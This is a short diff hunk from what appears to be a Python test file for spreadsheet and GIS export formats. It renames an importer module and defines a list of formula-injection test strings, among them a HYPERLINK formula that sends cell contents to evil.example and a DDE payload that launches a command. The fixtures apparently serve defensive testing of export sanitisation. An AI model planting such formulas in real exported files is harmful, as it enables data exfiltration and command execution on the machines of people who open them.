@@ -40,7 +40,7 @@ from export.formats import (
     xlsx_layer_bytes,
 )
 from gis.crs import gcj02_to_wgs84
-from ingest import importers as imp
+from ingest import readers as imp
 
 META = ExportMeta(title="测试导出", exported="2026-11-26")
 FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
